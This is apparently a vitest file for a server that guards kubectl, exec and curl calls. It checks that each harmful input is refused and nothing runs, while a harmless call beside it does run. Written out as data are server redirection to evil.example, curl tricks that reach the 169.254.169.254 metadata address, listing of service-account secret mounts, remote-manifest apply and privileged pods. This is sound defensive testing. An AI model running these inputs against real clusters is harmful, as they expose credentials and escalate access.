import { afterAll, beforeAll, expect } from 'vitest';
import type { HttpServer } from '../served.ts';
import { type Proofs, proveRows } from './prove.ts';
import { calling, EXEC, IMAGE, KUBECTL, serveReference } from './reference-server.ts';

let server: HttpServer;
/** Every verb that a hole needs is allowed, and the image too. */
beforeAll(async () => {
  server = await serveReference({
    KUBECTL_ALLOWED_COMMANDS: 'get,logs,delete,apply,create,exec,run',
    KUBECTL_ALLOWED_IMAGES: 'busybox',
  });
});
afterAll(() => server.stop());

/** Proves that a call runs nothing, by this code, and that the harmless call beside it does run. */
async function closed(tool: string, harmful: object, code: string, harmless: object): Promise<void> {
  const refused = await calling(server, tool, harmful);
  expect({ ran: refused.ran, code: refused.body.code }).toEqual({ ran: [], code });
  expect((await calling(server, tool, harmless)).ran.length).toBeGreaterThan(0);
}

const kubectl = (args: readonly string[], code: string, harmless: readonly string[]) =>
  closed(KUBECTL, { args }, code, { args: harmless });
const probe = (command: readonly string[], code: string) =>
  closed(IMAGE, { image: 'curlimages/curl', namespace: 'shop', command }, code, {
    image: 'curlimages/curl',
    namespace: 'shop',
    command: ['curl', '-sS', 'http://10.0.0.1/latest'],
  });
const exec = (command: readonly string[], harmless: readonly string[]) =>
  closed(EXEC, { pod: 'web-0', command }, 'ARGUMENT_NOT_ALLOWED', { pod: 'web-0', command: harmless });

const EVIL = 'http://evil.example';
const METADATA = '169.254.169.254';

const PROOFS: Proofs = {
  '`-n -- --server=URL`: `--` becomes the value, and the next flag is live': async () => {
    await kubectl(['delete', 'pod', 'a', '-n', '--', `--server=${EVIL}`], 'OTHER_SERVER', ['delete', 'pod', 'a']);
    await kubectl(['exec', 'a', '-c', '--', `--server=${EVIL}`, '--', 'ls'], 'OTHER_SERVER', ['exec', 'a', '--', 'ls']);
    await kubectl(['delete', 'pod', '-l', '--', `-s${EVIL}`], 'OTHER_SERVER', ['delete', 'pod', '-l', 'a=b']);
  },
  '`logs -psURL`, `logs -fsURL`: the letters of the command are unknown': async () => {
    await kubectl(['logs', 'a', `-ps${EVIL}`], 'OTHER_SERVER', ['logs', 'a', '-p']);
    await kubectl(['logs', 'a', `-fs${EVIL}`], 'WATCH', ['logs', 'a']);
  },
  '`curl 169.254.169.254/latest`: no scheme, and a path': () =>
    probe(['curl', `${METADATA}/latest`], 'TARGET_NOT_ALLOWED'),
  '`curl http:169.254.169.254`': () => probe(['curl', `http:${METADATA}`], 'ARGUMENT_NOT_ALLOWED'),
  '`curl --resolve`': () =>
    probe(['curl', '--resolve', `a:80:${METADATA}`, 'http://10.0.0.1/'], 'ARGUMENT_NOT_ALLOWED'),
  '`curl --connect-to`': () =>
    probe(['curl', '--connect-to', `a:80:${METADATA}:80`, 'http://10.0.0.1/'], 'ARGUMENT_NOT_ALLOWED'),
  '`curl -xHOST`, glued': async () => {
    await probe(['curl', `-x${METADATA}`, 'http://10.0.0.1/'], 'ARGUMENT_NOT_ALLOWED');
    await probe(['curl', `-sSx${METADATA}`, 'http://10.0.0.1/'], 'ARGUMENT_NOT_ALLOWED');
  },
  'URL globbing': async () => {
    await probe(['curl', 'http://169.254.169.[254-254]/'], 'ARGUMENT_NOT_ALLOWED');
    await probe(['curl', `http://{${METADATA},10.0.0.1}/`], 'ARGUMENT_NOT_ALLOWED');
  },
  'percent-encoding': () => probe(['curl', 'http://%31%36%39.254.169.254/'], 'ARGUMENT_NOT_ALLOWED'),
  'words of `sh -c`': () => probe(['sh', '-c', `curl ${METADATA}`], 'PROGRAM_NOT_ALLOWED'),
  '`curl -K` files': async () => {
    await probe(['curl', '-K', '/tmp/a'], 'ARGUMENT_NOT_ALLOWED');
    await probe(['curl', '-sK/tmp/a'], 'ARGUMENT_NOT_ALLOWED');
  },
  '`/usr/bin/curl -L`': () => probe(['/usr/bin/curl', '-L', 'http://10.0.0.1/'], 'PROGRAM_NOT_ALLOWED'),
  'host names with an underscore': () => probe(['curl', 'http://my_host.example.com/'], 'ARGUMENT_NOT_ALLOWED'),
  '`localhost`': async () => {
    for (const host of ['localhost', 'LOCALHOST', 'localhost.', 'a.localhost'])
      await probe(['curl', `http://${host}/`], 'TARGET_NOT_ALLOWED');
  },
  '`ss -K` closes sockets': async () => {
    await exec(['ss', '-K'], ['ss', '-tlnp']);
    await exec(['ss', '-tK'], ['ss', '-t']);
    await exec(['ss', '--kill'], ['ss', '-n']);
  },
  '`ls` of secret mounts': async () => {
    await exec(['ls', '/var/run/secrets/kubernetes.io/serviceaccount'], ['ls', '/app']);
    await exec(['ls', '-la', '/app/../run/secrets'], ['ls', '-la', '/var/log']);
  },
  '`--raw`': async () => {
    const { body, ran } = await calling(server, KUBECTL, { args: ['get', '--raw', '/api/v1/secrets'] });
    expect({ success: body.success, ran }).toEqual({ success: false, ran: [] });
    await kubectl(['delete', '--raw', '/api/v1/namespaces/a'], body.code, ['get', 'pods']);
  },
  '`-f URL` and `-f FILE`': async () => {
    for (const from of [`${EVIL}/x.yaml`, '/etc/passwd', '-k'])
      await kubectl(['apply', '-f', from], 'LOCAL_FILE', ['get', 'pods']);
    await kubectl(['delete', `-f${EVIL}/x`], 'LOCAL_FILE', ['delete', 'pod', 'a']);
  },
  '`--privileged`': () =>
    kubectl(['run', 'a', '--image=busybox', '--privileged'], 'POD_SECURITY', ['run', 'a', '--image=busybox']),
  '`--log-file`': () => kubectl(['get', 'pods', '--log-file=/tmp/x'], 'UNKNOWN_FLAG', ['get', 'pods']),
  '`config view --raw`': () => kubectl(['config', 'view', '--raw'], 'COMMAND_NOT_ALLOWED', ['get', 'pods']),
};

proveRows(import.meta.filename, PROOFS);
